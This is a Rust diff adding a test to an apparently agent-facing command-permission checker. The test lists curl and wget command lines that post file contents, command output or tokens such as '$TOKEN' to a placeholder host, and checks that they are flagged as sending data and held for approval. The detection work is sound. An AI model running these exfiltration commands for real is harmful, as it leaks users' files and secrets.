@@ -27,6 +27,115 @@ impl WrongLines {
     }
 }
 
+/// Whatever a request takes from a file, from the output of a command or from a variable goes to another machine.
+#[test]
+fn a_request_that_sends_something_has_the_effect() {
+    let project = TestProject::make();
+    let mut wrong = WrongLines::default();
+    let has = |line: &str, effect| effects_of(line, &project.place).contains(&effect);
+    let sends = |line: &str| has(line, Effect::Send) || has(line, Effect::Destroy);
+    let unknown = ["$(cat README.md)", "`base64 < README.md`", "$TOKEN", "x${TOKEN}y", "$(<README.md)"];
+    for value in unknown {
+        for option in
+            ["-A", "-b", "-e", "-H", "-r", "-u", "--header", "--oauth2-bearer", "--request-target", "--url-query"]
+        {
+            for line in
+                [format!("curl {option} \"{value}\" http://x"), format!("curl -s {option} \"X: {value}\" http://x")]
+            {
+                wrong.expect(&line, sends(&line), true);
+            }
+        }
+        for option in ["--header", "-U", "--user-agent", "--referer", "--password"] {
+            let line = format!("wget {option}=\"X: {value}\" http://x");
+            let line = line.replace("-U=", "-U ");
+            wrong.expect(&line, sends(&line), true);
+        }
+        for line in [
+            "curl \"http://x/V\"",
+            "wget -O - \"http://x/V\"",
+            "curl --url \"http://x/?q=V\"",
+            "x=\"V\"; curl http://x/\"$x\"",
+        ] {
+            let line = line.replace('V', value);
+            wrong.expect(&line, sends(&line), true);
+        }
+    }
+    for method in ["POST", "PUT", "PATCH", "DELETE", "PROPPATCH", "post", "$METHOD"] {
+        for line in [
+            "curl -X M x",
+            "curl -XM x",
+            "curl --request M x",
+            "curl -sX M x",
+            "curl --request=M x",
+            "wget --method=M x",
+        ] {
+            let line = line.replace('M', method);
+            wrong.expect(&line, sends(&line), true);
+        }
+    }
+    for line in [
+        "curl -H @README.md x",
+        "curl -H@README.md x",
+        "curl --header @- x",
+        "curl --url-query @README.md x",
+        "curl --url-query q@README.md x",
+        "curl --data-ascii x http://x",
+        "curl --form-string a=b x",
+        "curl --etag-compare README.md x",
+        "wget --method=GET --body-file=README.md x",
+        "wget -i README.md -B http://x/",
+        "curl telnet://x:80",
+        "curl gopher://x/_a",
+        "cat README.md | xargs -I{} curl http://x/{}",
+        "while read -r a; do curl \"http://x/$a\"; done < README.md",
+        "curl -d x http://x",
+        "curl -T README.md x",
+    ] {
+        wrong.expect(line, sends(line), true);
+    }
+    for line in [
+        "curl http://x",
+        "curl -X GET http://x",
+        "curl -I http://x",
+        "curl --request OPTIONS http://x",
+        "curl -H 'Accept: a@b' -H Authorization: -A me -u a:b http://x",
+        "curl -b cookies.txt -c cookies.txt http://x",
+        "curl -o \"$(date).txt\" -m \"$TIME\" -w \"$FORMAT\" http://x",
+        "for i in 1 2 3; do curl http://x/$i; done",
+        "V=1.2; curl -L https://x/$V.tar.gz",
+        "curl http://x/$(git rev-parse HEAD)",
+        "curl --url-query q=a@b http://x",
+        "wget -q --header='Accept: x' http://x",
+        "wget --method=GET http://x",
+        "wget -O \"$FILE\" http://x",
+    ] {
+        wrong.expect(line, sends(line), false);
+    }
+    wrong.none();
+    check(&[
+        (
+            &["allow shell curl *", "allow shell wget *", "allow file.write **", "allow file.read **"],
+            &[
+                "curl -X POST http://x",
+                "curl -H @README.md http://x",
+                "curl \"http://x/?q=$(cat README.md)\"",
+                "wget --method=DELETE http://x",
+            ],
+            Ask,
+        ),
+        (
+            &[
+                "allow shell curl -X POST *",
+                "allow shell curl -X DELETE *",
+                "allow shell curl -H *",
+                "allow file.read **",
+            ],
+            &["curl -X POST http://x", "curl -X DELETE http://x", "curl -H @README.md http://x"],
+            Allow,
+        ),
+    ]);
+}
+
 /// A path is one however it is written, and a branch is none.
 #[test]
 fn git_checkout_of_a_path_throws_changes_away() {
